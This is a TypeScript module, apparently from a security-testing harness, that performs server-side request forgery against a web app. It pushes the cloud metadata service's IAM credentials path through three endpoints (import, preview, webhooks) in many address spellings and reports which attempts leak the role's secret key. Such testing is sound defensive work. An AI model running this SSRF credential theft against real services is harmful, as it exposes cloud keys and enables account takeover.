/** B sends the server for the keys of its own role, in every spelling, through every door. */

import type { Attack, Target } from '../breach.ts'
import { type Answer, call } from '../client.ts'
import { listAt } from '../json.ts'
import { spellings } from './spellings.ts'

const keysPath = '/latest/meta-data/iam/security-credentials/docdock-importer'

type Door = (target: Target, address: string) => Promise<Answer>

const doors: Readonly<Record<string, Door>> = {
  import: ({ url, tokens }, address) =>
    call(url, 'POST', '/v1/import', { token: tokens['userB'], body: { url: address } }),
  preview: ({ url, tokens }, address) =>
    call(url, 'GET', `/v1/preview?url=${encodeURIComponent(address)}`, { token: tokens['userB'] }),
  webhooks: ({ url, tokens }, address) =>
    call(url, 'POST', '/v1/webhooks', { token: tokens['userB'], body: { callbackUrl: address } }),
}

export const attack: Attack = async target => {
  const secret = target.witness['secret'] ?? ''
  const attempts = Object.entries(doors).flatMap(([door, send]) =>
    spellings.map(spelling => ({ door, send, spelling })),
  )
  const outcomes = await Promise.all(
    attempts.map(async ({ door, send, spelling }, index) => {
      // The number tells the judge which attempt it was that arrived; the stand-in ignores it.
      const answer = await send(target, `${spelling.origin}${keysPath}?attempt=${index}`)
      return { door, spelling: spelling.name, leaked: secret !== '' && answer.text.includes(secret), index }
    }),
  )
  const arrived = await arrivals(target)
  const reached = outcomes.filter(({ index, leaked }) => leaked || arrived.has(`${index}`))
  const leaks = reached.filter(({ leaked }) => leaked).length
  if (reached.length === 0) {
    return { succeeded: false, effect: `None of ${attempts.length} attempts reached the metadata service.` }
  }
  const works = Object.keys(doors).map(door => {
    const names = reached.filter(each => each.door === door).map(each => each.spelling)
    const which = names.length === spellings.length ? 'every spelling' : names.join(', ') || 'nothing'
    return `${door}: ${which}`
  })
  const effect =
    `${reached.length} of ${attempts.length} attempts reached the metadata service and ${leaks} brought back the ` +
    `role's secret key (${works.join('; ')}).`
  return { succeeded: true, effect }
}

/** The numbers of the attempts that the stand-in saw, whatever the API answered. */
async function arrivals({ witness }: Target): Promise<ReadonlySet<string>> {
  const journal = URL.parse(witness['journal'] ?? '')
  if (journal === null) return new Set()
  const { body } = await call(journal.origin, 'GET', journal.pathname)
  const numbers = listAt(body, 'metadata').map(path => /[?&]attempt=(\d+)/.exec(String(path))?.[1])
  return new Set(numbers.filter(number => number !== undefined))
}
